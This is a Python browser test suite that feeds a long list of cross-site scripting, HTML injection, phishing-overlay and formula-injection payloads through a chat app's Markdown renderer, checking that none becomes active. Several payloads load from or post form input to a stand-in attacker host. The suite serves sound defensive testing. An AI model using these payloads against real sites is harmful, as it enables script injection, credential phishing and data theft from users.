"""1,000 hostile texts in every field of the page, in headless Chromium: nothing outside of the list of elements, no
dialog, no request to anywhere else, nothing that covers the page.

Each text is an attack inside of a piece of Markdown: the carriers take up the sections of the CommonMark specification.
With SALA_TESTS=long in the environment, every text is in every field, instead of each in one. With the path of that
specification's `spec.txt` (npm: commonmark-spec) in COMMONMARK_SPEC, its own examples carry 1,000 more, in every field.
"""

import itertools
import os
import re
import time
from pathlib import Path

import pytest

pytest.importorskip("playwright.sync_api", reason="Playwright is not installed")

from fake_workspace import FakeDocument, FakeMessage, FakePart
from page_driver import Window, wait_for

from app.page.markdown.writer import ELEMENTS
from sala_core.events import AnswerStats, Evidence, Quotation

pytestmark = [pytest.mark.browser, pytest.mark.timeout(600)]

COVER = "style='position:fixed;inset:0;z-index:9999;background:red'"
ATTACKS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "<img src=http://evil.example/i.png>",
    f"<div {COVER}>Enter your password</div>",
    f"</div></article></section><div {COVER}>x</div>",
    "<svg/onload=alert(3)>",
    "<iframe src=http://evil.example></iframe>",
    "<form action=http://evil.example><input name=p><button>Go</button></form>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=http://evil.example/a.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example/>",
    "<a href=javascript:alert(4)>x</a>",
    "[x](javascript:alert(5))",
    "[x](http://evil.example \"onmouseover=alert(6)\")",
    "![x](http://evil.example/i.png)",
    "![x](data:image/svg+xml,<svg/onload=alert(7)>)",
    "<http://evil.example/\"onclick=alert(8)>",
    "<details open ontoggle=alert(9)>",
    "<video autoplay src=http://evil.example/v.mp4></video>",
    "<button class=mark onclick=alert(10)>word for word</button>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(11)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(12)>\">",
    "&lt;img src=x onerror=alert(13)&gt;",
    "&#60;img src=x onerror=alert(14)&#62;",
    "\"><img src=x onerror=alert(15)>",
    "' onmouseover='alert(16)' x='",
    "$\\href{javascript:alert(17)}{x}$",
    "$\\htmlStyle{position:fixed}{x}$ $\\includegraphics{http://evil.example/i.png}$",
    "$\\rule{9999em}{9999em}$ $\\kern-999em\\smash{\\rule{999em}{99em}}$ $\\raisebox{99em}{x}$",
    "$\\def\\a{\\a\\a}\\a$",
    "$$\\begin{array}{c}\\url{javascript:alert(18)}\\end{array}$$",
    "```mermaid\ngraph TD\nA[<img src=x onerror=alert(19)>] --> B\nclick A \"javascript:alert(20)\"\n```",
    "```html\n<script>alert(21)</script>\n```",
    "%%%LATEX_BLOCK_0%%%",
    "<!--><img src=x onerror=alert(22)>-->",
    "<![CDATA[<img src=x onerror=alert(23)>]]>",
    "\u202e\u0000\ufeff<img src=x onerror=alert(24)>",
    "<custom-element onfocus=alert(25) tabindex=0 autofocus>",
    "{{7*7}} ${alert(26)} #{alert(27)}",
)  # fmt: skip
CARRIERS = (
    "{}", "\\`{}\\`", "`{}`", "`` {} ``", "`a\n{}\nb`", "``` {}\nx\n```", "```\n{}\n```", "~~~\n```\n{}\n~~~", "    {}",
    "# {}", "{}\n===", "> {}", "> > - {}", "- {}\n\n  {}", "1. {}", "| a | {} |\n|---|---|\n| {} | b |", "*{}*",
    "**a {}", "[{}](http://a.example)", "[a](<{}>)", "![{}](b)", "[x]: {}\n\n[x]", "<div>\n{}\n\n{}", "<a {}>", "“{}”",
)  # fmt: skip
PAYLOADS = [carrier.replace("{}", attack) for carrier, attack in itertools.product(CARRIERS, ATTACKS)]
IN_EVERY_FIELD = os.environ.get("SALA_TESTS") == "long"
FIELDS = 4
SPEC = os.environ.get("COMMONMARK_SPEC", "")
NUM_OF_SPEC, BATCHES = 1000, 8
FORMULAS = ("math", "semantics", "annotation", "svg", "path", "line", "g")

LOOK = """([listed, formulas]) => {
  const faults = [];
  for (const element of document.querySelectorAll(".talk *")) {
    const name = element.localName;
    const isFormula = element.closest(".formula .katex, .formula .katex-error") !== null;
    if (!(name in listed) && !(isFormula && (formulas.includes(name) || /^m[a-z]+$/.test(name)))) faults.push(name);
    for (const { name: attribute } of element.attributes) {
      const isOwn = ["tabindex", "hidden"].includes(attribute); // the page's scripts set these
      const isListed = isFormula || isOwn || listed[name]?.includes(attribute);
      if (attribute.startsWith("on") || !isListed) faults.push(`${name} ${attribute}`);
    }
    const look = isFormula ? null : getComputedStyle(element);
    if (look !== null && ["fixed", "absolute"].includes(look.position)) faults.push(`${name} is ${look.position}`);
    if (name === "a" && element.href && !/^https?:$/.test(element.protocol)) faults.push(element.href);
    if (name === "a" && element.href && !element.rel.includes("noopener")) faults.push("a without noopener");
  }
  for (const element of document.querySelectorAll(".prose *, #sessions *, #title *"))
    for (const { name } of element.attributes) if (name.startsWith("on")) faults.push(`${element.localName} ${name}`);
  const active = "img, iframe, object, embed, form, video, audio, base, noscript, custom-element";
  for (const element of document.body.querySelectorAll(active))
    faults.push(`${element.localName} in ${element.parentElement.className}`);
  const foreign = document.querySelectorAll(".prose :is(style, script, link, meta, a[href^='java'])");
  if (foreign.length > 0) faults.push("in a panel");
  return [...new Set(faults)];
}"""
CLIPPED = """() => [...document.querySelectorAll(".talk .formula")].filter(
  (formula) => getComputedStyle(formula).contain !== "paint").length"""
COVERED = """(ids) => ids.filter((id) => {
  const box = document.getElementById(id).getBoundingClientRect();
  const top = document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2);
  return top?.closest(`#${id}`) === null;
})"""


def payloads_of_spec():
    """The attacks, each in the place of a word of an example of the specification, or in the middle of one."""
    fence = "`" * 32
    found = re.findall(
        rf"^{fence} example\n(.*?)^\.\n", Path(SPEC).read_text(encoding="utf-8"), re.DOTALL | re.MULTILINE
    )
    examples = [text.replace("→", "\t").removesuffix("\n") for text in found]
    assert len(examples) > 600
    made = []
    for number in range(NUM_OF_SPEC):
        example, attack = examples[number % len(examples)], ATTACKS[7 * number % len(ATTACKS)]
        words = [match.span() for match in re.finditer(r"[a-z]+", example)]
        start, end = words[number % len(words)] if words else (len(example) // 2,) * 2
        made.append(example[:start] + attack + example[end:])
    return made


def fill(workspace, name, payloads, *, in_every_field):
    """A session with the payloads in questions, answers, thinking, quotations, documents and evidence."""
    row = workspace.new_session(name)
    library = workspace.library
    sets = [payloads] * FIELDS if in_every_field else [payloads[field::FIELDS] for field in range(FIELDS)]
    messages = []
    for question, answer, thinking, quoted in zip(*sets, strict=True):
        place = Quotation(text=quoted, document=quoted, document_id="d", page=None, line_start=1, line_end=1)
        stats = AnswerStats(quotations=(place,))
        messages.append(FakeMessage(id=f"q{len(messages)}", role="user", text=question))
        said = f"{answer}\n\n“{quoted}”"
        messages.append(
            FakeMessage(id=f"a{len(messages)}", role="assistant", text=said, thinking=thinking, stats=stats)
        )
    evidence = tuple(
        Evidence(document=each, document_id="novel", page=None, line_start=1, line_end=1, text=each, score=1.0)
        for each in ATTACKS[:12]
    )
    last = messages[-1]
    messages[-1] = FakeMessage(id=last.id, role="assistant", text=last.text, stats=last.stats, evidence=evidence)
    library.talk[row.id] = messages
    for number, payload in enumerate(payloads[:: 1 if in_every_field and payloads is not PAYLOADS else 6]):
        document = FakeDocument(id=f"d{number}", name=payload, media_type="", num_bytes=1, num_tokens=1, text=payload)
        library.texts[document.id] = document
        part = FakePart(ordinal=number, kind="document", start=0, end=1, document_id=document.id)
        library.stream.setdefault(row.id, []).append(part)
    row.num_documents, row.num_messages, row.num_tokens, row.position = 100, len(messages), 10, 10
    return row


def show_all(window, number):
    """Show the earlier turns too, until all messages are there."""
    messages = window.page.locator("#history article")
    while (shown := messages.count()) < number:
        window.page.locator("#history .show-earlier:visible").first.click()
        wait_for(lambda shown=shown: messages.count() > shown, "the earlier turns", 120)
    assert shown == number


def look_over(context, served, workspace, row):
    """Open a window, and check that the session's texts have made nothing but listed elements; returns the window."""
    row.updated_at = time.time() + 1
    dialogs = []
    context.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    window = Window(context.new_page(), served).open(token=True)
    show_all(window, len(workspace.library.talk[row.id]))
    wait_for(lambda: window.page.locator(".formula:not(:has(.katex, .katex-error))").count() == 0, "the formulas")
    listed = {name: list(attributes) for name, attributes in ELEMENTS.items()}
    assert not (faults := window.page.evaluate(LOOK, [listed, FORMULAS])), "\n".join(faults)
    assert window.page.evaluate(CLIPPED) == 0
    window.show("sources")
    assert window.page.evaluate(COVERED, ["send", "question", "new-session", "drop"]) == []
    assert window.page.evaluate("document.body.scrollWidth <= window.innerWidth")
    assert dialogs == []
    return window


@pytest.mark.parametrize("batch", range(BATCHES if IN_EVERY_FIELD else 1))
def test_nothing_in_any_text_becomes_active(context, served, workspace, batch):
    for attack in ATTACKS:
        workspace.new_session(" ".join(attack.split())[:150])
    payloads = PAYLOADS[batch::BATCHES] if IN_EVERY_FIELD else PAYLOADS
    row = fill(workspace, "<b>x</b> " + ATTACKS[3], payloads, in_every_field=IN_EVERY_FIELD)
    window = look_over(context, served, workspace, row)
    if not IN_EVERY_FIELD:  # a batch does not hold every kind of text
        assert window.page.locator(".talk .formula").count() > 20
        assert window.page.locator(".talk a").count() > 20


@pytest.mark.skipif(not SPEC, reason="COMMONMARK_SPEC is not set")
@pytest.mark.parametrize("batch", range(BATCHES))
def test_nothing_in_the_specification_s_own_examples_becomes_active(context, served, workspace, batch):
    payloads = payloads_of_spec()[batch::BATCHES]
    for number, payload in enumerate(payloads):
        workspace.new_session(f"{number} {' '.join(payload.split())[:150]}")
    row = fill(workspace, ATTACKS[batch], payloads, in_every_field=True)
    look_over(context, served, workspace, row)


def test_a_streamed_answer_of_attacks_stays_text(window, workspace):
    dialogs = []
    window.page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    text = "\n\n".join(PAYLOADS[::40])
    workspace.script.answer, workspace.script.thinking, workspace.script.token_s = text, text, 0.02
    window.ask(ATTACKS[3])
    window.wait_streaming(50)
    listed = {name: list(attributes) for name, attributes in ELEMENTS.items()}
    assert not (faults := window.page.evaluate(LOOK, [listed, FORMULAS])), "\n".join(faults)
    window.wait_answers(1)
    assert not (faults := window.page.evaluate(LOOK, [listed, FORMULAS])), "\n".join(faults)
    assert dialogs == []
